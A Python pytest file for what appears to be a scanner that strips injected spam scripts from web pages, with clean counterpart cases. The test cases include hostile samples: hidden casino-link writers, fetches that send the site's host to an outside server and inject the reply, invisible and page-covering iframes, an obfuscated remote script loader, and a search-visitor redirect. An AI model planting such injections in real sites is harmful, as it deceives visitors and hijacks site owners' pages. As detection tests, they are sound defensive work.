"""What scripts put together in the functions they call and in loops over lists: links, holders, frames, titles."""

from __future__ import annotations

import pytest

from tests.signs.cases import restores, silent

_OFFERS = "[['online casino bonus','a'],['slot gacor','b'],['poker online','c']]"
_OBJECTS = (
    "[{u:'https://a.example.net/',t:'online casino bonus'},{u:'https://b.example.net/',t:'slot gacor'},"
    "{u:'https://c.example.net/',t:'poker online'}]"
)


@pytest.mark.parametrize(
    "script",
    [
        (
            f"var d={_OFFERS},h='';$.each(d,function(i,v){{h+='<a href=\"https://'+v[1]+'.example.net/\">'+v[0]+'</a>'}});"
            "$('body').append('<div id=\"q\">'+h+'</div>');"
        ),
        (
            f"var d={_OFFERS},h='',i;for(i=0;i<d.length;i++){{h+='<a href=\"https://'+d[i][1]+'.example.net/\">'+d[i][0]+"
            "'</a>'}document.body.insertAdjacentHTML('beforeend',h);"
        ),
        f"const list={_OBJECTS};for(const o of list)document.write('<a href=\"'+o.u+'\">'+o.t+'</a>');",
        f"const l={_OBJECTS};document.body.innerHTML+=l.map(o=>`<a href=\"${{o.u}}\">${{o.t}}</a>`).join(' ');",
        f"!function(w,l){{l.forEach(function(o){{w.write('<a href=\"'+o.u+'\">'+o.t+'</a>')}})}}(document,{_OBJECTS});",
        (
            "function put(u,t){document.write('<a href=\"'+u+'\">'+t+'</a>')}"
            "put('https://a.example.net/','online casino');put('https://b.example.net/','slot gacor');"
            "put('https://c.example.net/','poker online');"
        ),
    ],
)
def test_links_put_together_in_a_loop_are_known(script: str) -> None:
    restores(body=f"<script>{script}</script>\n", rule="written-links")


@pytest.mark.parametrize(
    "script",
    [
        (
            "var d=[['Town archive','a'],['Music school','b'],['County museum','c']],h='';$.each(d,function(i,v){"
            "h+='<a href=\"https://'+v[1]+'.example.net/\">'+v[0]+'</a>'});$('#partners').append('<p>'+h+'</p>');"
        ),
        (
            "$.getJSON('/search.json',function(r){var h='';for(var i=0;i<r.length;i++)h+='<a href=\"'+r[i].url+'\">'"
            "+r[i].title+'</a>';$('#results').html(h)});"
        ),
        (
            "function item(u,t){return '<li><a href=\"'+u+'\">'+t+'</a></li>'}document.getElementById('nav').innerHTML="
            "item('https://news.example.net/','News')+item('https://maps.example.net/','Maps');"
        ),
    ],
)
def test_links_of_the_page_put_together_in_a_loop_stay(script: str) -> None:
    silent(body=f'<div id="partners"></div><div id="results"></div><div id="nav"></div><script>{script}</script>\n')


@pytest.mark.parametrize(
    "script",
    [
        (
            "function pull(a,b){fetch(a+'?d='+location.host).then(r=>r.text()).then(t=>document.getElementById(b)"
            ".innerHTML=t)}"
            "pull('https://l.example.net/one.txt','k1');pull('https://l.example.net/two.txt','k2');"
        ),
        (
            "const go=async(a,b)=>{const r=await fetch(a);document.getElementById(b).insertAdjacentHTML('beforeend',"
            "await r.text())};go('https://l.example.net/one.txt','k1');go('https://l.example.net/two.txt','k2');"
        ),
        (
            "[['https://l.example.net/1','k1'],['https://l.example.net/2','k2']].forEach(function(p){$.get(p[0],function(t){"
            "$('#'+p[1]).html(t)})});"
        ),
        (
            "var u='https://l.example.net/'+'x.php';['k1','k2'].forEach(k=>fetch(u+'?k='+k).then(r=>r.text()).then(t=>"
            "document.getElementById(k).innerHTML=t));"
        ),
    ],
)
def test_holders_that_a_function_fills_go_with_it(script: str) -> None:
    restores(
        body=f'<div id="k1" hidden></div><div id="k2" hidden></div>\n<script>{script}</script>\n', rule="fetched-block"
    )


def test_a_function_that_fills_from_the_own_host_or_into_sight_stays() -> None:
    function = "function pull(a,b){fetch(a).then(r=>r.text()).then(t=>document.getElementById(b).innerHTML=t)}"
    silent(body=f"<div id=\"k1\" hidden></div><script>{function}pull('/parts/news.html','k1');</script>\n")
    silent(body=f"<div id=\"k1\"></div><script>{function}pull('https://w.example.net/now.html','k1');</script>\n")


def test_what_those_without_scripts_are_told_goes_with_the_holder() -> None:
    restores(
        body='<!-- hl-panel v3 -->\n<div class="hk" style="position:absolute;left:-4100px"></div>\n<script>\njQuery('
        'function($){$.get("https://l.example.net/c.php",{s:location.host},function(d){$(".hk").html(d)})});\n</script>\n'
        '<noscript><a href="https://l.example.net/">more sites</a></noscript>\n<!-- /hl-panel -->\n',
        rule="fetched-block",
    )


def _fed(style: str, address: str, called: str = "__kl") -> str:
    return (
        f"<script>window.{called}=function(r){{for(var o='',i=0;i<r.l.length;i++)o+='<a href=\"'+r.l[i].u+'\">'+"
        f"r.l[i].t+'</a> ';var n=document.createElement('div');n.style.cssText='{style}';n.innerHTML=o;"
        f'document.body.appendChild(n)}};</script><script src="{address}" async></script>\n'
    )


@pytest.mark.parametrize(
    "style", ["position:absolute;left:-5000px", "display:none", "position:absolute;clip:rect(0,0,0,0)"]
)
def test_a_function_that_hides_the_links_it_is_sent_goes_with_the_script_that_calls_it(style: str) -> None:
    restores(head=_fed(style, "https://feed.example.net/l.js?callback=__kl&amp;n=9"), rule="fetched-block")


@pytest.mark.parametrize(
    ("style", "address"),
    [
        ("margin:1em 0", "https://feed.example.net/l.js?callback=__kl"),
        ("display:none", "/feeds/l.js?callback=__kl"),
        ("display:none", "https://feed.example.net/l.js?callback=other"),
    ],
)
def test_a_function_that_shows_what_it_is_sent_or_that_nobody_strange_calls_stays(style: str, address: str) -> None:
    silent(head=_fed(style, address))


@pytest.mark.parametrize(
    "script",
    [
        (
            "var f=document.createElement('if'+'rame'),p=['https:','','f.example.net','e?a=2290'];f.src=p.join('/');"
            "f.setAttribute('style','position:absolute;left:-6000px;width:1px');document.body.appendChild(f);"
        ),
        (
            "var d=document,i=d.createElement('iframe');i.width=0;i.height=0;i.frameBorder=0;i.src='https://f.example.net/in/';"
            "d.body.appendChild(i);"
        ),
        (
            "(function(d,t,u){var e=d.createElement(t);e.setAttribute('src',u);e.setAttribute('width','1');"
            "e.setAttribute('height','1');d.body.appendChild(e)})(document,'iframe','https://f.example.net/go');"
        ),
        (
            "var i=document.createElement('iframe');i.style.position='absolute';i.style.left='-4000px';"
            "i.src='ht'+'tps://f.example'+'.net/go';document.body.appendChild(i);"
        ),
        (
            "var i=document.createElement('iframe');i.style.display='none';i.src='https://casino.example.net/?a=2';"
            "document.body.appendChild(i);"
        ),
    ],
)
def test_a_frame_out_of_sight_that_a_script_builds_goes(script: str) -> None:
    restores(body=f"<script>{script}</script>\n", rule="written-frame")


@pytest.mark.parametrize(
    "script",
    [
        (
            "var i=document.createElement('iframe');i.style.display='none';i.src='https://login.example.net/silent';"
            "document.body.appendChild(i);i.contentWindow.postMessage('ask','*');"
        ),
        (
            "var i=document.createElement('iframe');i.width=560;i.height=315;i.src='https://video.example.net/embed/a';"
            "document.getElementById('film').appendChild(i);"
        ),
        (
            "var i=document.createElement('iframe');i.width=1;i.height=1;i.src='https://m.example.net/t;src=12;ord='"
            "+Math.random()+'?';document.body.appendChild(i);"
        ),
        "var i=document.createElement('iframe');i.width=0;i.height=0;i.src='/print/page';document.body.appendChild(i);",
    ],
)
def test_frames_of_logins_players_measuring_and_the_own_host_stay(script: str) -> None:
    silent(body=f"<script>{script}</script>\n")


@pytest.mark.parametrize(
    "script",
    [
        (
            'var _0x1f=["\\x74\\x69\\x74\\x6c\\x65","online casino bonus - slot gacor","\\x73\\x72\\x63",'
            '"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2fj.example.net/t.js","\\x73\\x63\\x72\\x69\\x70\\x74"];(function(a,b){'
            "a[b[0]]=b[1];var c=a.createElement(b[4]);c[b[2]]=b[3];a.head.appendChild(c)})(document,_0x1f);"
        ),
        (
            "var d=document;d['ti'+'tle']='online casino bonus - slot gacor';var s=d.createElement('scr'+'ipt');"
            "s.src='https://j.example.net/t.js';d.head.appendChild(s);"
        ),
    ],
)
def test_a_script_that_calls_the_page_what_is_sold_and_loads_more_goes(script: str) -> None:
    restores(head=f"<script>{script}</script>\n", rule="written-title")


def test_a_script_that_counts_in_the_title_stays() -> None:
    silent(
        head="<script>var d=document;d['ti'+'tle']='(3) Opening hours';var s=d.createElement('scr'+'ipt');"
        "s.src='https://j.example.net/t.js';d.head.appendChild(s);</script>\n"
    )


@pytest.mark.parametrize(
    "script",
    [
        (
            'document.body.innerHTML=\'<iframe src="https://t.example.net/go" style="position:fixed;top:0;left:0;'
            "width:100%;height:100%;border:0\"></iframe>'"
        ),
        (
            "var f=document.createElement('iframe');f.src='https://t.example.net/go';f.style.cssText='position:fixed;top:0;"
            "left:0;width:100%;height:100%;z-index:99999';document.body.appendChild(f);"
        ),
    ],
)
def test_a_frame_over_the_page_that_a_script_makes_goes(script: str) -> None:
    restores(body=f"<script>{script}</script>\n", rule="written-frame")


def test_what_is_fetched_and_written_into_a_hidden_box_goes() -> None:
    asks = "var x=new XMLHttpRequest();x.open('GET','{}',false);x.send();"
    writes = "document.write('<div style=\"{}\">'+x.responseText+'</div>');"
    hidden = asks.format("https://l.example.net/l.txt") + writes.format("display:none")
    restores(body=f"<script>{hidden}</script>\n", rule="fetched-block")
    silent(body=f"<script>{asks.format('/parts/l.txt') + writes.format('display:none')}</script>\n")
    silent(body=f"<script>{asks.format('https://l.example.net/l.txt') + writes.format('margin:0')}</script>\n")


def test_visitors_of_a_search_for_whom_a_window_is_opened() -> None:
    script = "const T={g:'https://go.example.net/x'};if(document.referrer.match(/google|bing/))window.open(T.g,'_self')"
    restores(head=f"<script>{script}</script>\n", rule="search-redirect")
    silent(head=f"<script>{script.replace('https://go.example.net', '')}</script>\n")
